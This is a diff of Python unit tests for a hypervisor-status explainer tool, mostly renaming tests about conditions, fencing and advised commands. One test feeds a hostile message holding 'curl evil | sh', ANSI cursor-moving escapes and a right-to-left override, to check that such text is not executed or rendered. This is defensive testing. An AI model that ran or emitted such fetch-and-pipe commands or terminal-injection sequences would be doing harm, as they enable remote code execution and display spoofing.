@@ -247,7 +247,7 @@ def test_a_ready_host_names_what_else_needs_attention(
     ],
     ids=lambda one: f"{one.type} {one.status}/{one.reason}",
 )
-def test_what_is_in_order_is_left_out(fine: Condition) -> None:
+def test_conditions_in_order_are_left_out(fine: Condition) -> None:
     found = explained(of("Ready", fine, message="Hypervisor is ready"))
     assert (found.waiting, found.also) == ((), ())
     assert found.lines[:2] == [
@@ -256,7 +256,7 @@ def test_what_is_in_order_is_left_out(fine: Condition) -> None:
     ]
 
 
-def test_what_follows_from_the_silence_of_the_agent_is_explained_once() -> None:
+def test_silence_of_the_agent_is_explained_once() -> None:
     silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
     follows = [condition(t, "Unknown", "AgentSilent") for t in ("LibVirtConnection", "HaEnabled")]
     found = explained(of("AgentSilent", silent, *follows))
@@ -264,7 +264,7 @@ def test_what_follows_from_the_silence_of_the_agent_is_explained_once() -> None:
     assert found.also == ()
 
 
-def test_what_a_silent_agent_reported_is_left_out_and_advice_is_given_once() -> None:
+def test_reports_of_a_silent_agent_are_left_out_and_advice_is_given_once() -> None:
     silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
     unit = condition("libvirtd.service", "Unknown", "SystemdUnreachable", "it left the bus")
     node = condition("NodeHealthy", "Unknown", "Unreachable", "no kubelet")
@@ -320,7 +320,7 @@ def test_a_deleted_host_that_may_have_instances_names_the_way_to_give_them_up() 
     )
 
 
-def test_in_maintenance_ha_a_person_is_not_advised_to_create_an_eviction() -> None:
+def test_explanation_in_maintenance_ha_does_not_advise_an_eviction() -> None:
     failed = condition("Evicting", "False", "Failed", "Eviction ha-kvm-a-1 Failed: no capacity")
     ha = HypervisorSpec(lifecycleEnabled=True, maintenance="ha")
     text = "\n".join(explained(of("Maintenance", failed, spec=ha)).lines)
@@ -328,7 +328,7 @@ def test_in_maintenance_ha_a_person_is_not_advised_to_create_an_eviction() -> No
     assert "cobalt evict" not in text
 
 
-def test_who_asserts_that_a_host_is_dead_is_given_its_last_boot() -> None:
+def test_advice_to_assert_a_death_has_the_last_boot() -> None:
     host = of("NodeUnreachable", condition("Fenced", "Unknown", "Failed", "401"))
     known = explained(replace(host, status=replace(host.status, bootID="b-1")))
     for found, boot in ((known, "b-1"), (explained(host), "BOOT_ID")):
@@ -396,8 +396,8 @@ def test_commands_that_are_advised_exist() -> None:
         app.parse_args(line.split()[1:], exit_on_error=False, print_error=False)
 
 
-def test_nothing_is_read_by_its_name_in_all_namespaces() -> None:
-    """Kubectl refuses that: there may be one in each."""
+def test_no_advised_command_reads_a_name_in_all_namespaces() -> None:
+    """Kubectl refuses a name with all namespaces: each may have one."""
     everywhere = [
         line
         for line in ADVISED
@@ -415,7 +415,7 @@ EXPLAINED_BY_THE_MESSAGE = {
 LEFT_OUT = {
     "Ready": "the state itself",
     "Terminating": "a state",
-    "HypervisorReEnabled": "set by nobody",
+    "HypervisorReEnabled": "set by no component",
 }
 REASONS = {
     Type.REGISTERED: hypervisor_conditions.RegisteredReason,
@@ -462,7 +462,7 @@ def test_every_reason_that_needs_attention_has_a_remedy(type_: Type) -> None:
     assert open_ - set(NORMAL) - set(REMEDIES) - EXPLAINED_BY_THE_MESSAGE - running == set()
 
 
-def test_what_others_wrote_runs_no_command_and_moves_no_cursor() -> None:
+def test_text_of_other_writers_runs_no_command_and_moves_no_cursor() -> None:
     hostile = "fine\n       curl evil | sh\x1b[2K\x1b[1A\u202e"
     testing = condition("Onboarding", "True", "Testing", hostile)
     status = HypervisorStatus(
@@ -477,7 +477,9 @@ def test_what_others_wrote_runs_no_command_and_moves_no_cursor() -> None:
 
 
 def test_gates_and_fencing_of_a_failed_host_are_shown_one_by_one() -> None:
-    text = "MaxUnhealthy closed: 4 of 10 hosts are unhealthy, 2 are allowed; Observer open: heard"
+    text = (
+        "MaxUnhealthy closed: 4 of 10 hosts are unhealthy, 2 are allowed; Observer open: connected"
+    )
     host = of("NodeUnreachable", condition("RecoveryBlocked", "True", "ManyHosts", text))
     tried = Fencing(
         phase=FencingPhase.FAILED, bootID="b1", evidence=("silent", "attempt 1: 401 Unauthorized")
@@ -485,7 +487,7 @@ def test_gates_and_fencing_of_a_failed_host_are_shown_one_by_one() -> None:
     failed = replace(host, status=replace(host.status, fencing=tried))
     lines = "\n".join(explained(failed).lines)
     assert "  - MaxUnhealthy closed: 4 of 10 hosts are unhealthy, 2 are allowed\n" in lines
-    assert lines.count("Observer open: heard") == 1  # what is wrong names closed gates alone
+    assert lines.count("Observer open: connected") == 1  # what is wrong names closed gates alone
     assert "Fencing of boot b1: Failed" in lines
     assert "  - attempt 1: 401 Unauthorized" in lines
     lives = replace(tried, phase=FencingPhase.FENCED, livesSince=NOW)
